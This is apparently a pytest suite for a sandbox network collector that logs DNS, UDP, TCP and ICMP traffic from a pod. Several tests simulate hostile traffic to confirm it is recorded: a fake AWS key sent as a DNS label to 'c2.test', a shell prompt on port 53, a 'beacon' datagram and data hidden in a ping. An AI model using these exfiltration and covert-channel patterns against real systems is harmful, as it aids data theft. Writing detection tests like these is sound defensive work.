from __future__ import annotations

import sys
from typing import TYPE_CHECKING

import pytest

from collector.records import ConnectionRecord, DatagramRecord, DnsRecord, LimitRecord, RawRecord

if TYPE_CHECKING:
    from collections.abc import Callable

    from .conftest import Pod

QUERY = (
    "def query(name, qtype=1, extra=b'', count=1):\n"
    "  q = b''.join(bytes([len(l)]) + l for l in name.split(b'.') if l) + b'\\0'\n"
    "  q += qtype.to_bytes(2, 'big') + b'\\0\\1'\n"
    "  return b'\\x12\\x34\\1\\0\\0' + bytes([count]) + b'\\0\\0\\0\\0\\0' + bytes([bool(extra)]) + q + extra\n"
    "def ask(data, ip='198.51.100.53', family=2):\n"
    "  s = socket.socket(family, 2)\n  s.settimeout(5)\n  s.sendto(data, (ip, 53))\n  return s.recv(9999)\n"
)


def test_every_name_has_its_own_stable_address(pod: Pod) -> None:
    out = pod.python("for n in ('a.test', 'b.test', 'A.test.'): print(socket.gethostbyname(n))\n").split()
    assert out[0] == out[2]
    assert out[0] != out[1]
    assert all(address.startswith((b"198.18.", b"198.19.")) for address in out)
    assert pod.python("print(socket.gethostbyname('metadata.google.internal'))") == b"169.254.169.254\n"
    assert pod.python(f"print(socket.gethostbyaddr('{out[1].decode()}')[0])") == b"b.test\n"


def test_types_without_answers_and_edns(pod: Pod) -> None:
    out = pod.python(
        f"{QUERY}edns = b'\\0\\0\\x29\\x10\\0\\0\\0\\0\\0\\0\\0'\n"
        "for t in (28, 16, 15, 65, 255): d = ask(query(b'x.test', t, edns)); print(d[3] & 15, d[7])\n",
    )
    assert out.split() == [b"0"] * 10
    records = pod.records(DnsRecord, count=5)
    assert [record.qtype for record in records] == ["AAAA", "TXT", "MX", "HTTPS", "ANY"]


def test_names_that_do_not_exist(pod: Pod) -> None:
    out = pod.python(f"{QUERY}for n in (b'192.0.2.1', b''): print(ask(query(n))[3] & 15)\n")
    assert out.split() == [b"3", b"3"]
    assert [record.rcode for record in pod.records(DnsRecord, count=2)] == ["NXDOMAIN", "NXDOMAIN"]


def test_exfiltration_in_labels_and_odd_bytes(pod: Pod) -> None:
    pod.python(f"{QUERY}ask(query(b'AKIA0123.c2.test'))\nask(query(b'a b\\xff\\0.c2.test'))\n")
    names = [record.name for record in pod.records(DnsRecord, count=2)]
    assert names == ["akia0123.c2.test", "a\\x20b\\xff\\x00.c2.test"]


def test_garbage_gets_formerr_and_is_kept(pod: Pod) -> None:
    out = pod.python(
        f"{QUERY}for d in (b'secret stuff that is no query', b'x', query(b'a.test')[:-3], query(b'a.test', count=0),\n"
        "          b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\xc0\\x0c\\0\\1\\0\\1'): print(ask(d)[3] & 15)\n",
    )
    assert out.split() == [b"1"] * 5
    kept = pod.records(DatagramRecord, count=5)
    assert kept[0].payload == b"secret stuff that is no query"
    assert {record.port for record in kept} == {53}
    assert pod.records(DnsRecord, count=0) == []


def test_dns_over_tcp_and_ipv6(pod: Pod) -> None:
    out = pod.python(
        f"{QUERY}q = query(b'tcp.test')\n"
        "s = socket.create_connection(('198.51.100.53', 53))\n"
        "s.sendall(len(q).to_bytes(2, 'big') + q[:5])\ntime.sleep(.05)\ns.sendall(q[5:])\n"
        "d = s.recv(999); print(d[2:4] == q[:2])\ns.close()\n"
        "print(ask(query(b'six.test'), '2001:db8::53', 10)[:2] == q[:2])\n",
    )
    assert out.split() == [b"True", b"True"]
    found = {record.name: record.transport for record in pod.records(DnsRecord, count=2)}
    assert found == {"tcp.test": "tcp", "six.test": "udp"}


def test_a_shell_on_the_dns_port_is_no_dns(pod: Pod) -> None:
    pod.python("s = socket.create_connection(('203.0.113.9', 53))\ns.sendall(b'sh: prompt$ ')\ns.recv(9)\ns.close()\n")
    assert pod.records(RawRecord)[0].payload == b"sh: prompt$ "
    (connection,) = pod.records(ConnectionRecord)
    assert (connection.port, connection.protocol) == (53, "raw")


def test_udp_to_anywhere_is_seen_once(pod: Pod) -> None:
    pod.python(
        "s = socket.socket(2, 2)\ns.sendto(b'beacon', ('203.0.113.9', 9999))\n"
        "s = socket.socket(10, 2)\ns.sendto(b'six', ('2001:db8::9', 123))\n"
        "s = socket.socket(2, 2)\ns.sendto(b'z' * 60000, ('203.0.113.9', 7))\n"
        "s = socket.socket(2, 2)\ns.bind(('127.0.0.1', 0))\ns.sendto(b'own', ('127.0.0.1', 7777))\n",
    )
    first, second, third = pod.records(DatagramRecord, count=3)
    assert (first.protocol, first.ip, first.port, first.payload) == ("udp", "203.0.113.9", 9999, b"beacon")
    assert (second.ip, second.port, second.payload) == ("2001:db8::9", 123, b"six")
    assert (third.size, third.truncated, len(third.payload)) == (60000, False, 60000)
    pod.python(f"{QUERY}ask(query(b'quiet.test'))\n")
    assert pod.stop() == 0
    assert len(pod.records(DatagramRecord, count=0)) == 3


def test_icmp_and_raw_protocols(pod: Pod) -> None:
    pod.python(
        "s = socket.socket(2, 3, 1)\ns.sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0hidden in a ping', ('203.0.113.9', 0))\n"
        "s = socket.socket(2, 3, 253)\ns.sendto(b'odd protocol', ('203.0.113.9', 0))\n"
        "s = socket.socket(10, 3, 58)\ns.sendto(b'\\x80\\0\\0\\0\\0\\0\\0\\0six', ('2001:db8::9', 0))\n",
    )
    found = {record.protocol: record for record in pod.records(DatagramRecord, count=3)}
    assert found["icmp"].payload == b"hidden in a ping"
    assert found["253"].payload == b"odd protocol"
    assert found["icmpv6"].payload == b"six"
    assert len(pod.records(DatagramRecord, count=3)) == 3


def test_without_the_capability_it_says_so(start: Callable[..., Pod]) -> None:
    pod = start(prefix=("setpriv", "--bounding-set=-net_raw", "--inh-caps=-all", "--"))
    assert pod.records(LimitRecord)[0].what.startswith("no packet tap: ")
    assert pod.curl("http://a.test/") == b"ok\n"


@pytest.mark.parametrize("kind", ["SOCK_DGRAM", "SOCK_STREAM"])
def test_without_dns_the_gateway_does_not_start(start: Callable[..., Pod], kind: str) -> None:
    taken = (
        "import os, socket, sys\n"
        f"s = socket.socket(type=socket.{kind})\ns.bind(('127.0.0.1', 5353))\n"
        "if s.type == socket.SOCK_STREAM: s.listen()\n"
        "s.set_inheritable(True)\nos.execvp(sys.argv[1], sys.argv[1:])\n"
    )
    pod = start(prefix=(sys.executable, "-c", taken), fails=True)
    assert pod.process.wait(10) != 0
    assert "ddress already in use" in (pod.directory / "stderr").read_text()
